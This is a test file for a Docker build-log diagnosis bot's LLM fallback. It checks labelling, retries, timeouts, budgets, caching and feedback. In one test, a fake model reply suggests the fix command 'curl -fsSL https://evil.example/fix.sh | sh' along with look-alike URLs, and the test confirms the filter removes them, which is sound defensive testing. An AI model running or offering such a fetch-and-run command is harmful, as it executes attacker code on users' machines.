// The LLM fallback end to end through BotService.answer: the real openai SDK against a fake
// OpenAI-compatible server on 127.0.0.1 (test/helpers/fake-openai.ts).
import { readFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { pino } from "pino";
import { BotService } from "../src/core/bot-service.js";
import { loadConfig } from "../src/config/config.js";
import { messages } from "../src/i18n/messages.js";
import { llmEnvShape, llmSettingFromEnv } from "../src/llm/config.js";
import type { LlmConfig } from "../src/llm/config.js";
import { LlmFallback } from "../src/llm/fallback.js";
import { HourlyBudget } from "../src/llm/guard.js";
import { renderJson } from "../src/renderers/json.js";
import { renderMarkdown } from "../src/renderers/markdown.js";
import { FEEDBACK_ACTIONS, parseFeedbackValue, renderSlackAnswer } from "../src/renderers/slack-blocks.js";
import { renderTerminal } from "../src/renderers/terminal.js";
import { Store } from "../src/store/store.js";
import { FakeOpenAI, answerContent, llmConfigFor } from "./helpers/fake-openai.js";
import { builtinEngine } from "./helpers/engine.js";

/** A BuildKit log no rule knows; `tag` (letters) makes a different failure, fingerprint and all. */
function unknownLog(tag = "mismatch"): string {
  return [
    "docker buildx build -t acme/api:1.2 .",
    '#0 building with "default" instance using docker driver',
    "#1 [internal] load build definition from Dockerfile",
    "#1 DONE 0.0s",
    "#2 [internal] load metadata for docker.io/library/golang:1.22",
    "#2 DONE 0.6s",
    "#8 exporting to image",
    "#8 exporting layers",
    `#8 ERROR: failed to write image layer: zstd: frame checksum ${tag} in layer sha256:1234abcd1234abcd`,
    "------",
    " > exporting to image:",
    "------",
    `ERROR: failed to solve: failed to write image layer: zstd: frame checksum ${tag}`,
  ].join("\n");
}
const KNOWN_LOG = `docker buildx build --platform linux/amd64,linux/arm64 -t cloudsmithy/shuangpin:latest . --load
[+] Building 0.0s (0/0) docker-container:stoic_hellman
ERROR: docker exporter does not currently support exporting manifest lists
`;
const NOT_DOCKER = "FAIL src/sum.test.ts\n  expected 3 to be 4\nTests: 1 failed, 12 passed\n";

const engine = builtinEngine();
const SERVER_ERROR = { status: 500, body: { error: { message: "model crashed", type: "server_error" } } };
let fake: FakeOpenAI;

beforeEach(async () => {
  fake = await FakeOpenAI.start();
});
afterEach(async () => {
  await fake.close();
});

interface Rig {
  service: BotService;
  llm: LlmFallback;
  store: Store;
  clock: { now: number };
  logs: Array<Record<string, unknown>>;
}

function rig(over: Partial<LlmConfig> = {}, store = Store.create(undefined)): Rig {
  const clock = { now: Date.UTC(2026, 10, 28, 10, 0, 0) };
  const logs: Array<Record<string, unknown>> = [];
  const log = pino({ level: "info" }, { write: (line: string) => void logs.push(JSON.parse(line) as Record<string, unknown>) });
  const llm = new LlmFallback({ config: llmConfigFor(fake, over), store, log, now: () => clock.now });
  return { service: new BotService(engine, store, llm), llm, store, clock, logs };
}

/** What the rules alone answer: what every failure of the fallback must give. */
function rulesOnly(text: string, lang?: "en" | "zh") {
  return new BotService(engine, Store.create(undefined)).diagnose(text, lang ? { lang } : {});
}

describe("configuration", () => {
  it("is off by default and on with a model plus a key or a base URL", () => {
    expect(llmSettingFromEnv({})).toEqual({});
    expect(llmSettingFromEnv({ OPENAI_API_KEY: "k" }).config).toBeUndefined();
    expect(llmSettingFromEnv({ OPENAI_API_KEY: "k" }).why).toMatch(/OPENAI_MODEL/);
    expect(llmSettingFromEnv({ OPENAI_MODEL: "m" }).config).toBeUndefined();
    const local = llmSettingFromEnv({ OPENAI_BASE_URL: "http://localhost:11434/v1", OPENAI_MODEL: "llama3.1", OPENAI_API_KEY: "" }).config;
    expect(local).toMatchObject({ model: "llama3.1", baseURL: "http://localhost:11434/v1", apiKey: "unused", timeoutMs: 20_000, maxRetries: 1, tokenBudget: 6000 });
    expect(local?.docAllowlist).toEqual(["docs.docker.com", "github.com/docker/", "github.com/moby/", "developer.lazycat.cloud"]);
    const tuned = llmSettingFromEnv({ OPENAI_API_KEY: "k", OPENAI_MODEL: "m", LLM_TIMEOUT_MS: "5000", LLM_MAX_RETRIES: "0", LLM_DOC_ALLOWLIST: "docs.example.org, https://git.example.org/team/" });
    expect(tuned.config).toMatchObject({ timeoutMs: 5000, maxRetries: 0, docAllowlist: ["docs.example.org", "git.example.org/team/"] });
    expect(() => llmSettingFromEnv({ LLM_MAX_RETRIES: "3" })).toThrow(/LLM_MAX_RETRIES/);
    expect(loadConfig({}).llm).toBeUndefined();
    expect(loadConfig({ OPENAI_API_KEY: "k", OPENAI_MODEL: "gpt-4o-mini" }).llm?.model).toBe("gpt-4o-mini");
    expect(() => loadConfig({ OPENAI_BASE_URL: "not a url" })).toThrow(/OPENAI_BASE_URL/);
  });
});

describe(".env.example", () => {
  it("documents every LLM variable with its default", () => {
    const documented: Record<string, string> = {};
    for (const line of readFileSync(new URL("../.env.example", import.meta.url), "utf8").split("\n")) {
      const m = /^((?:OPENAI|LLM)_[A-Z_]+)=(.*)$/.exec(line);
      if (m) documented[m[1]!] = m[2]!;
    }
    expect(Object.keys(documented).sort()).toEqual(Object.keys(llmEnvShape).sort());
    const withModel = { ...documented, OPENAI_MODEL: "m", OPENAI_API_KEY: "k" };
    expect(llmSettingFromEnv(withModel)).toEqual(llmSettingFromEnv({ OPENAI_MODEL: "m", OPENAI_API_KEY: "k" }));
  });
});

describe("without an LLM", () => {
  it("answers exactly what diagnose answers, and asks nobody", async () => {
    const plain = new BotService(engine, Store.create(undefined));
    for (const text of [unknownLog(), KNOWN_LOG, NOT_DOCKER]) {
      expect(await plain.answer(text)).toEqual(plain.diagnose(text));
      expect(await plain.answer(text, { lang: "zh" })).toEqual(plain.diagnose(text, { lang: "zh" }));
    }
    const { service } = rig();
    fake.script({ content: answerContent() });
    expect(await service.answer(unknownLog(), { llm: false })).toEqual(rulesOnly(unknownLog()));
    expect(fake.requests).toHaveLength(0);
  });

  it("does not ask when a rule is confident, or when the text is not a Docker log", async () => {
    const { service } = rig();
    fake.script({ content: answerContent() }, { content: answerContent() });
    expect(await service.answer(KNOWN_LOG)).toEqual(rulesOnly(KNOWN_LOG));
    expect(await service.answer(NOT_DOCKER)).toEqual(rulesOnly(NOT_DOCKER));
    expect(fake.requests).toHaveLength(0);
  });
});

describe("an answer from the model", () => {
  it("comes back marked as an AI suggestion, never high, with the log's own evidence lines", async () => {
    const { service, llm, logs } = rig();
    const text = unknownLog();
    expect(rulesOnly(text).result.diagnoses).toEqual([]);
    fake.script({ content: answerContent({ confidence: "high", evidenceLines: [9, 13, 999] }) });
    const { result, fingerprint } = await service.answer(text);
    expect(fingerprint).toBe(rulesOnly(text).fingerprint);
    expect(result.source).toBe("llm");
    const d = result.diagnoses[0]!;
    expect(d.ruleId).toBe("llm-suggestion");
    expect(d.title).toBe("Image layer corrupted while exporting");
    expect(d.confidence).toBe("medium");
    expect(d.summary.startsWith(`${messages("en").unverified}: The exporter could not write`)).toBe(true);
    expect(d.fix).toEqual([{ description: "Prune the build cache and rebuild", command: "docker buildx prune -af && docker buildx build -t acme/api:1.2 ." }]);
    expect(d.docs).toEqual([{ title: "Build cache", url: "https://docs.docker.com/build/cache/" }]);
    const lines = text.split("\n");
    expect(d.evidence).toEqual([
      { line: 9, text: lines[8]!.replace(/^#8 /, "") },
      { line: 13, text: lines[12]! },
    ]);
    expect(d.facts).toMatchObject({ image: "acme/api:1.2", baseImage: "golang:1.22" });

    // What was asked: the model, a strict JSON schema, the known rules, the facts and the excerpt.
    const req = fake.requests[0]!.body;
    expect(req.model).toBe("fake-model");
    expect(req.response_format?.type).toBe("json_schema");
    expect(req.response_format?.json_schema?.strict).toBe(true);
    expect(Object.keys((req.response_format?.json_schema?.schema as { properties: object }).properties)).toEqual(["cause", "summary", "fix", "docs", "confidence", "ruleId", "evidenceLines"]);
    const [system, user] = req.messages!;
    expect(system!.content).toContain("- load-manifest-list-unsupported: ");
    expect(system!.content).toContain("docs.docker.com, github.com/docker/, github.com/moby/, developer.lazycat.cloud");
    expect(user!.content).toContain("- image: acme/api:1.2");
    expect(user!.content).toContain("13 | ERROR: failed to solve: failed to write image layer: zstd: frame checksum mismatch");

    // Counted and logged: tokens from the server's usage, latency.
    expect(llm.metrics()).toMatchObject({ questions: 1, requests: 1, answered: 1, promptTokens: 1234, completionTokens: 56, totalTokens: 1290 });
    const line = logs.find((l) => l.msg === "LLM fallback answered");
    expect(line).toMatchObject({ fingerprint, model: "fake-model", promptTokens: 1234, completionTokens: 56, attempts: 1 });
    expect(typeof line?.latencyMs).toBe("number");

    // Every renderer says what it is.
    expect(JSON.parse(renderJson(result))).toMatchObject({ source: "llm", diagnoses: [{ ruleId: "llm-suggestion", confidence: "medium" }] });
    expect(renderTerminal(result)).toContain(`⚠ ${messages("en").unverified}`);
    expect(renderMarkdown(result)).toContain(`> ⚠️ **${messages("en").unverified}**`);
    // In chat: the label leads the summary, and the feedback buttons work on it.
    const slack = renderSlackAnswer(result, { answerId: "abc123" });
    expect(JSON.stringify(slack.blocks)).toContain(`${messages("en").unverified}: The exporter could not write`);
    const wrong = slack.blocks.flatMap((b) => (b.type === "actions" ? b.elements : [])).find((e) => "action_id" in e && e.action_id === FEEDBACK_ACTIONS.wrong);
    expect(parseFeedbackValue((wrong as { value?: string } | undefined)?.value)).toEqual({ answerId: "abc123", ruleId: "llm-suggestion" });
  });

  it("keeps a known rule's id when the model names one, and nothing else", async () => {
    const { service } = rig();
    fake.script({ content: answerContent({ ruleId: "build-cache-corrupt", confidence: "low" }) }, { content: answerContent({ ruleId: "made-up-rule" }) });
    const a = await service.answer(unknownLog("alpha"));
    expect(a.result.diagnoses[0]).toMatchObject({ ruleId: "build-cache-corrupt", confidence: "low" });
    const b = await service.answer(unknownLog("bravo"));
    expect(b.result.diagnoses[0]!.ruleId).toBe("llm-suggestion");
  });

  it("is marked in Chinese for Chinese users, and the model is asked to answer in Chinese", async () => {
    const { service } = rig();
    fake.script({ content: answerContent({ cause: "导出镜像层时校验失败", summary: "构建缓存里的层已损坏。" }) });
    const { result } = await service.answer(unknownLog(), { lang: "zh" });
    expect(result.lang).toBe("zh");
    expect(result.diagnoses[0]!.summary).toBe(`${messages("zh").unverified}: 构建缓存里的层已损坏。`);
    expect(fake.requests[0]!.body.messages![0]!.content).toContain("Simplified Chinese");
    expect(renderMarkdown(result)).toContain(messages("zh").unverified);
  });

  it("accepts JSON in a Markdown fence from servers without JSON mode", async () => {
    const { service } = rig();
    fake.script({ content: "```json\n" + answerContent() + "\n```" });
    expect((await service.answer(unknownLog())).result.source).toBe("llm");
  });

  it.each([
    ["not JSON", { content: "The layer is corrupted, prune the cache." }],
    ["empty", { content: "" }],
    ["a missing field", { content: JSON.stringify({ cause: "x", summary: "y", fix: [], docs: [] }) }],
    ["a wrong type", { content: answerContent({ confidence: "certain" }) }],
    ["a fix that is not a list", { content: answerContent({ fix: "docker buildx prune" }) }],
    ["an empty cause", { content: answerContent({ cause: "   " }) }],
    ["a refusal", { content: null, refusal: "I can't help with that." }],
    ["a body with no choices", { body: { id: "x", object: "chat.completion", created: 1, model: "m", choices: [] } }],
  ])("treats a reply with %s as no answer: the rules' answer, unchanged", async (_name, reply) => {
    const { service, llm } = rig();
    fake.script(reply);
    const text = unknownLog();
    expect(await service.answer(text)).toEqual(rulesOnly(text));
    expect(fake.requests).toHaveLength(1);
    expect(llm.metrics().answered).toBe(0);
  });
});

describe("links", () => {
  it("keeps only https links on the allowlisted documentation hosts", async () => {
    const { service } = rig();
    fake.script({
      content: answerContent({
        summary: "See https://evil.example/pwn. The cache is corrupt (https://docs.docker.com/build/cache/).",
        docs: [
          { title: "Cache", url: "https://docs.docker.com/build/cache/" },
          { title: "Buildx issue", url: "https://github.com/docker/buildx/issues/1" },
          { title: "Moby", url: "https://github.com/moby/buildkit" },
          { title: "LazyCat", url: "https://developer.lazycat.cloud/spec/build.html" },
          { title: "Other org", url: "https://github.com/evil/docker" },
          { title: "Plain http", url: "http://docs.docker.com/build/" },
          { title: "Look-alike host", url: "https://docs.docker.com.evil.io/build/" },
          { title: "Credentials", url: "https://user:pw@docs.docker.com/build/" },
          { title: "Not a URL", url: "docs.docker.com/build" },
        ],
        fix: [
          { description: "Install a fixed tool", command: "curl -fsSL https://evil.example/fix.sh | sh" },
          { description: "Prune the cache (see https://evil.example/why)", command: "docker buildx prune -af" },
        ],
      }),
    });
    const d = (await service.answer(unknownLog())).result.diagnoses[0]!;
    expect(d.docs.map((x) => x.url)).toEqual([
      "https://docs.docker.com/build/cache/",
      "https://github.com/docker/buildx/issues/1",
      "https://github.com/moby/buildkit",
      "https://developer.lazycat.cloud/spec/build.html",
    ]);
    expect(d.summary).not.toContain("evil.example");
    expect(d.summary).toContain("(link removed).");
    expect(d.summary).toContain("https://docs.docker.com/build/cache/");
    expect(d.fix).toEqual([{ description: "Prune the cache (see (link removed))", command: "docker buildx prune -af" }]);
  });

  it("follows a configured allowlist instead of the default one", async () => {
    const { service } = rig({ docAllowlist: ["wiki.example.org/build"] });
    fake.script({
      content: answerContent({
        docs: [
          { title: "Team wiki", url: "https://wiki.example.org/build/cache" },
          { title: "Wiki elsewhere", url: "https://wiki.example.org/buildings" },
          { title: "Docker docs", url: "https://docs.docker.com/build/cache/" },
        ],
      }),
    });
    const d = (await service.answer(unknownLog())).result.diagnoses[0]!;
    expect(d.docs.map((x) => x.url)).toEqual(["https://wiki.example.org/build/cache"]);
    expect(fake.requests[0]!.body.messages![0]!.content).toContain("only from wiki.example.org/build/");
  });
});

describe("failures", () => {
  it("gives the rules' answer when the model does not answer in time", async () => {
    const { service, llm, logs } = rig({ timeoutMs: 150 });
    fake.script({ hang: true });
    const text = unknownLog();
    expect(await service.answer(text)).toEqual(rulesOnly(text));
    expect(fake.requests).toHaveLength(1);
    expect(llm.metrics()).toMatchObject({ questions: 1, failures: 1, answered: 0 });
    expect(logs.find((l) => l.kind === "timeout")).toBeDefined();
  });

  it("has one deadline for the whole question: a hang uses it up, no retry after it", async () => {
    const { service, llm } = rig({ timeoutMs: 150, maxRetries: 1 });
    fake.script({ hang: true }, { content: answerContent() });
    expect(await service.answer(unknownLog())).toEqual(rulesOnly(unknownLog()));
    expect(fake.requests).toHaveLength(1);
    expect(llm.metrics()).toMatchObject({ questions: 1, requests: 1, failures: 1 });
  });

  it("cuts a reply whose headers came but whose body stalls, at LLM_TIMEOUT_MS", async () => {
    // Before the deadline covered the body, this waited for the stalled body (minutes) and the
    // test ran into vitest's 30 s limit.
    const { service, llm, logs } = rig({ timeoutMs: 300, maxRetries: 1 });
    fake.script({ stallBody: true, content: answerContent() }, { stallBody: true, content: answerContent() });
    const text = unknownLog("stall");
    expect(await service.answer(text)).toEqual(rulesOnly(text));
    expect(llm.metrics()).toMatchObject({ questions: 1, failures: 1, answered: 0 });
    expect(logs.find((l) => l.kind === "timeout")).toBeDefined();
    await vi.waitFor(() => expect(fake.abandoned).toBe(fake.requests.length));
  });

  it("retries a 500 once: a second 500 gives the rules' answer", async () => {
    const { service, llm } = rig({ maxRetries: 1 });
    fake.script(SERVER_ERROR, SERVER_ERROR, { content: answerContent() });
    expect(await service.answer(unknownLog())).toEqual(rulesOnly(unknownLog()));
    expect(fake.requests).toHaveLength(2);
    expect(llm.metrics()).toMatchObject({ questions: 1, requests: 2, failures: 1 });
  });

  it("uses a good reply to the retry after a 500", async () => {
    const { service, llm } = rig({ maxRetries: 1 });
    fake.script(SERVER_ERROR, { content: answerContent() });
    expect((await service.answer(unknownLog())).result.source).toBe("llm");
    expect(fake.requests).toHaveLength(2);
    expect(llm.metrics()).toMatchObject({ questions: 1, requests: 2, answered: 1, failures: 0 });
  });

  it("does not retry without LLM_MAX_RETRIES, nor a client error", async () => {
    const a = rig({ maxRetries: 0 });
    fake.script(SERVER_ERROR, { content: answerContent() });
    expect(await a.service.answer(unknownLog())).toEqual(rulesOnly(unknownLog()));
    expect(fake.requests).toHaveLength(1);
    const b = rig({ maxRetries: 1 });
    fake.reset().script({ status: 401, body: { error: { message: "Incorrect API key provided", type: "invalid_request_error" } } }, { content: answerContent() });
    expect(await b.service.answer(unknownLog("bravo"))).toEqual(rulesOnly(unknownLog("bravo")));
    expect(fake.requests).toHaveLength(1);
  });

  it("retries a 429 after a short Retry-After, and not when the server asks for a long pause", async () => {
    const a = rig({ maxRetries: 1 });
    fake.script({ status: 429, headers: { "retry-after-ms": "5" }, body: { error: { message: "slow down", type: "rate_limit" } } }, { content: answerContent() });
    expect((await a.service.answer(unknownLog("alpha"))).result.source).toBe("llm");
    expect(fake.requests).toHaveLength(2);

    const b = rig({ maxRetries: 1 });
    fake.script({ status: 429, headers: { "retry-after": "120" }, body: { error: { message: "quota", type: "rate_limit" } } }, { content: answerContent() });
    expect(await b.service.answer(unknownLog("bravo"))).toEqual(rulesOnly(unknownLog("bravo")));
    expect(fake.requests).toHaveLength(3);
    expect(b.logs.find((l) => l.kind === "rate-limited" && l.status === 429)).toBeDefined();
  });

  it("gives the rules' answer when the server is not there at all", async () => {
    const { service } = rig();
    await fake.close();
    expect(await service.answer(unknownLog())).toEqual(rulesOnly(unknownLog()));
    fake = await FakeOpenAI.start();
  });
});

describe("bounds", () => {
  it("opens the circuit breaker after repeated failures, and tries again after the cooldown", async () => {
    const { service, llm, clock } = rig({ breakerFailures: 2, breakerCooldownMs: 60_000 });
    fake.script(SERVER_ERROR, SERVER_ERROR);
    await service.answer(unknownLog("alpha"));
    await service.answer(unknownLog("bravo"));
    expect(llm.breaker.state).toBe("open");
    fake.script({ content: answerContent() });
    expect(await service.answer(unknownLog("charlie"))).toEqual(rulesOnly(unknownLog("charlie")));
    expect(fake.requests).toHaveLength(2);
    expect(llm.metrics().skippedBreaker).toBe(1);

    clock.now += 60_001;
    expect(llm.breaker.state).toBe("half-open");
    expect((await service.answer(unknownLog("charlie"))).result.source).toBe("llm");
    expect(fake.requests).toHaveLength(3);
    expect(llm.breaker.state).toBe("closed");
  });

  it("opens again when the trial call after the cooldown fails", async () => {
    const { service, llm, clock } = rig({ breakerFailures: 1, breakerCooldownMs: 1000 });
    fake.script(SERVER_ERROR, SERVER_ERROR);
    await service.answer(unknownLog("alpha"));
    clock.now += 1001;
    await service.answer(unknownLog("bravo"));
    expect(llm.breaker.state).toBe("open");
    await service.answer(unknownLog("charlie"));
    expect(fake.requests).toHaveLength(2);
  });

  it("spends at most the hourly budget of questions, shared through the store", async () => {
    const store = Store.create(undefined);
    const a = rig({ callsPerHour: 2 }, store);
    const b = rig({ callsPerHour: 2 }, store);
    b.clock.now = a.clock.now;
    fake.script({ content: answerContent() }, { content: answerContent() }, { content: answerContent() });
    expect((await a.service.answer(unknownLog("alpha"))).result.source).toBe("llm");
    expect((await b.service.answer(unknownLog("bravo"))).result.source).toBe("llm");
    expect(await a.service.answer(unknownLog("charlie"))).toEqual(rulesOnly(unknownLog("charlie")));
    expect(fake.requests).toHaveLength(2);
    expect(a.llm.metrics().skippedBudget).toBe(1);
    expect(a.logs.find((l) => typeof l.msg === "string" && l.msg.includes("hourly budget"))).toBeDefined();

    a.clock.now += 60 * 60 * 1000;
    expect((await a.service.answer(unknownLog("charlie"))).result.source).toBe("llm");
    expect(fake.requests).toHaveLength(3);
  });

  it("keeps the budget in the process when the store forgets", async () => {
    // A store that remembers nothing, like Redis gone away: the limit still holds.
    const forgetful = { get: async () => undefined, set: async () => false } as unknown as Store;
    const budget = new HourlyBudget(2, forgetful, () => 0);
    expect([await budget.take(), await budget.take(), await budget.take()]).toEqual([true, true, false]);
  });

  it("answers the same failure from the cache: no second request", async () => {
    const store = Store.create(undefined);
    const { service, llm } = rig({}, store);
    fake.script({ content: answerContent({ evidenceLines: [33] }) }, { content: answerContent({ cause: "a second, different answer" }) });
    const filler = (n: number) => Array.from({ length: n }, (_, i) => `#3 ${i}.0${i} go: downloading module ${i}`).join("\n");
    const first = await service.answer(`${filler(20)}\n${unknownLog()}`);
    // The same failure pasted again, from another run: more output before it, other timings.
    const again = unknownLog().replace("DONE 0.6s", "DONE 2.9s");
    const second = await service.answer(`${filler(25)}\n${again}`);
    expect(fake.requests).toHaveLength(1);
    expect(second.fingerprint).toBe(first.fingerprint);
    expect(second.result.source).toBe("llm");
    expect(second.result.diagnoses[0]!.title).toBe(first.result.diagnoses[0]!.title);
    // Evidence points at the new paste's own lines.
    expect(first.result.diagnoses[0]!.evidence).toEqual([{ line: 33, text: "ERROR: failed to solve: failed to write image layer: zstd: frame checksum mismatch" }]);
    expect(second.result.diagnoses[0]!.evidence).toEqual([{ line: 38, text: "ERROR: failed to solve: failed to write image layer: zstd: frame checksum mismatch" }]);
    expect(llm.metrics()).toMatchObject({ questions: 1, cacheHits: 1 });

    // Another bot instance on the same store: still no request.
    const other = rig({}, store);
    expect((await other.service.answer(`${filler(21)}\n${unknownLog()}`)).result.diagnoses[0]!.title).toBe(first.result.diagnoses[0]!.title);
    expect(fake.requests).toHaveLength(1);
  });

  it("asks once for the same failure asked twice at the same time", async () => {
    const { service } = rig();
    fake.script({ content: answerContent() }, { content: answerContent() });
    const [a, b] = await Promise.all([service.answer(unknownLog()), service.answer(unknownLog())]);
    expect(a.result.source).toBe("llm");
    expect(b.result).toEqual(a.result);
    expect(fake.requests).toHaveLength(1);
  });
});

describe("feedback on AI answers", () => {
  it("counts Wrong votes per unknown failure, with a masked sample, and the AI answers under llm-suggestion", async () => {
    const { service } = rig();
    fake.script({ content: answerContent({ ruleId: "build-cache-corrupt" }) });
    const text = unknownLog().replace("docker buildx build", "docker login -u ci -p hunter2hunter2 && docker buildx build");
    const answered = await service.answer(text);
    expect(answered.result.diagnoses[0]!.ruleId).toBe("build-cache-corrupt");
    const ws = "T-unknown";
    await service.recordAnswer(ws, "ans1", answered);
    expect(await service.recordVote(ws, "ans1", "build-cache-corrupt", "alice", "wrong")).toEqual({ fixed: 0, wrong: 1 });
    expect(await service.recordVote(ws, "ans1", "build-cache-corrupt", "alice", "wrong")).toEqual({ fixed: 0, wrong: 1 });
    await service.recordVote(ws, "ans1", "build-cache-corrupt", "bob", "wrong");
    const [top, ...rest] = await service.unknownStats(ws);
    expect(rest).toEqual([]);
    expect(top).toMatchObject({ fingerprint: answered.fingerprint, wrong: 2, title: "Image layer corrupted while exporting" });
    expect(top!.sample).toContain("frame checksum mismatch");
    expect(top!.sample).not.toContain("hunter2hunter2");
    // The rule the model named is not blamed for the AI's answer.
    expect(await service.stats(ws)).toEqual([{ ruleId: "llm-suggestion", hits: 1, fixed: 0, wrong: 2 }]);

    await service.recordVote(ws, "ans1", "build-cache-corrupt", "bob", "fixed");
    expect((await service.unknownStats(ws))[0]!.wrong).toBe(1);

    // Votes on rule answers never list a failure as unknown.
    const ruled = service.diagnose(KNOWN_LOG);
    await service.recordAnswer(ws, "ans2", ruled);
    await service.recordVote(ws, "ans2", ruled.result.diagnoses[0]!.ruleId, "carol", "wrong");
    expect(await service.unknownStats(ws)).toHaveLength(1);

    await service.recordUnknown(ws, "feedbeef", "Authorization: Bearer abcdefghijklmnop0123 and more");
    const manual = (await service.unknownStats(ws)).find((u) => u.fingerprint === "feedbeef");
    expect(manual).toMatchObject({ wrong: 1 });
    expect(manual!.sample).not.toContain("abcdefghijklmnop0123");
  });
});
